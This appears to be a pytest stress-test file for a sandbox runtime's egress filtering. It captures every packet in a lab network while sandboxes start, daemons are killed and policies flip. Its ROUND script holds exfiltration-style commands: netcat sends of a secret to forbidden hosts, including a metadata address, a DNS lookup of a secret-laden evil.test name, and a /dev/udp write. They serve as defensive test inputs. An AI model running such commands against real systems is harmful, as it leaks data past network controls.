# SPDX-License-Identifier: Apache-2.0
"""Not one packet that the policy forbids leaves the node: while sandboxes start, while programs are killed, while policies change

Every frame on the node's only link is captured and judged; the capture lost none, and has as many frames as the link counts.
Programs inside try hosts that are allowed and hosts that are not, and put a secret into every name and payload that is not.
`make egress-sweep` has the sizes that the threat model asks for.
"""
import concurrent.futures
import os
import random
import secrets
import time

import cay
import lab
import pytest
from cay import wait_for
from test_egress import API, CDN, DB, HOSTS, LAN, METADATA, ZONE, allow, node_in_lab, put

FULL = os.environ.get("CAY_FULL")
STARTS, KILLS, FLIPS = (1000, 100, 1000) if FULL else (16, 2, 16)
SECRET = secrets.token_hex(16)
RST = 4

# a round of a program inside: what is allowed, and what is not
ROUND = f"""
echo fine | busybox nc -w 2 db.example.com 5432
for h in {API} {CDN} {METADATA} {LAN} {lab.NODE} {lab.DNS} 8.8.8.8 25.192.0.77; do echo {SECRET} | busybox nc -w 1 $h 5432; done
echo {SECRET} | busybox nc -w 1 {DB} 5432
echo {SECRET} | busybox nc -w 1 db.example.com 8443
echo {SECRET} | busybox nc -w 1 lan.example.com 5432
echo {SECRET} | busybox nc -w 1 {SECRET}.evil.test 5432
busybox nslookup {SECRET}.evil.test 8.8.8.8
bash -c 'echo {SECRET} > /dev/udp/{API}/443'
"""


class Judge:
    """Frames of the lab against what may leave: connections to db.example.com:5432, and questions for it and for lan.example.com,
    which a policy allows by name although its address is private."""
    def __init__(self, net):
        self.net, self.n, self.connects, self.forbidden = net, 0, 0, []

    def look(self, denied=()):
        """denied: (from, to) in ns, while nothing may be sent to the host at all, but for resets."""
        frames, captured, counted, lost = self.net.watched()
        assert lost == 0 and captured <= counted, (lost, captured, counted)
        for when, (protocol, to, port, payload), flags in frames:
            self.n += 1
            if (protocol, to, port) == (6, DB, 5432):
                self.connects += flags == 2
                bad = any(a < when < b for a, b in denied) and not flags & RST
            elif (protocol, to, port) == (17, lab.DNS, 53):
                bad = lab.labels(payload, 12)[0].lower() not in ("db.example.com", "lan.example.com")
            else:  # a program that was killed leaves answers of the name server that the kernel refuses
                bad = (protocol, to, payload[:1]) != (1, lab.DNS, b"\x03")
            if bad or SECRET.encode() in payload:
                self.forbidden.append((when, protocol, to, port, flags, payload[:80]))
        assert not self.forbidden, self.forbidden[:5]

    def end(self):
        self.look()
        _, captured, counted, lost = self.net.watched()
        assert (lost, captured) == (0, counted)


@pytest.fixture(scope="module")
def net():
    with lab.Lab(HOSTS, dict(ZONE)) as internet:
        yield internet


@pytest.fixture
def node(net):
    with node_in_lab() as c:
        yield c


POLICY = allow("db.example.com", "lan.example.com", ports=[5432])


def test_starts(node, net):
    """Programs that dial as soon as their sandbox is there; a third of the sandboxes may connect to nothing."""
    judge = Judge(net)

    def rollout(i):
        one = node.create("tiny", egress=POLICY if i % 3 else {})
        done = node.exec(one, ["sh", "-c", ROUND], timeout_s=120)
        node.delete(one)
        return i % 3 > 0, "fine" in done.text

    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        for first in range(0, STARTS, 32):
            ends = list(pool.map(rollout, range(first, min(first + 32, STARTS))))
            assert all(allowed == got for allowed, got in ends), ends
            judge.look()
    judge.end()
    assert judge.connects == STARTS - (STARTS + 2) // 3
    print(f"{STARTS} starts: {judge.connects} connections, {judge.n} packets, none forbidden")


def is_done(ask):
    """Whether it succeeds; not while a program that was killed is away."""
    try:
        return ask()
    except cay.ApiError as e:
        assert e.code in ("unavailable", "not_found"), e
        return e.code == "not_found"


def test_kills(node, net):
    """Programs that dial without end, while cay-egress, cayd and the keeper are killed in turn."""
    judge = Judge(net)
    boxes = [node.create("tiny", egress=POLICY) for _ in range(3)]
    for one in boxes:
        node.exec_detached(one, ["sh", "-c", f"while :; do {ROUND} done > /dev/null 2>&1"])
    rng, restart = random.Random(19), {"cay-egress": node.start_egress, "cayd": node.start_cayd, "cay-keeper": node.start_keeper}
    for i in range(KILLS):
        for name, start in restart.items():
            cay.let_pass(rng.random() * 0.3)
            node.kill_daemon(name)
            start()
        if i % 8 == 0:
            judge.look()
    for one in boxes:
        dials = ["sh", "-c", "echo fine | busybox nc -w 5 db.example.com 5432"]
        wait_for("connections again", lambda one=one, dials=dials: is_done(lambda: "fine" in node.exec(one, dials, timeout_s=60).text), 60)
        wait_for("its end", lambda one=one: is_done(lambda: node.delete(one) or True), 60)
    judge.end()
    print(f"{KILLS} kills of each of {', '.join(restart)}: {judge.connects} connections, {judge.n} packets, none forbidden")


def test_flips(node, net):
    """A policy that allows and denies the host in turn, under programs that keep connections busy: after the reply to a denial not a
    byte more is sent to it."""
    judge = Judge(net)
    one = node.create("tiny", egress=POLICY)
    busy = "while :; do (while echo beat; do busybox usleep 5000; done) | busybox nc -w 5 db.example.com 5432; done > /dev/null 2>&1"
    for _ in range(4):
        node.exec_detached(one, ["sh", "-c", busy])
    took, denied = [], []
    for i in range(FLIPS):
        put(node, one, POLICY)
        cay.let_pass(0.03)
        begun = time.monotonic_ns()
        put(node, one, allow("lan.example.com", ports=[5432]))
        took.append(time.monotonic_ns() - begun)
        from_ns = time.time_ns()
        cay.let_pass(0.01)
        denied.append((from_ns, time.time_ns()))
        if i % 16 == 15:
            judge.look(denied)
            denied = denied[-1:]
    judge.look(denied)
    node.delete(one)
    judge.end()
    assert judge.connects > FLIPS // 4
    took.sort()
    print(f"{FLIPS} flips: reply after {took[len(took) // 2] / 1e6:.1f} ms (median), {took[len(took) * 99 // 100] / 1e6:.1f} ms (99 %); "
          f"{judge.connects} connections, {judge.n} packets, none forbidden")
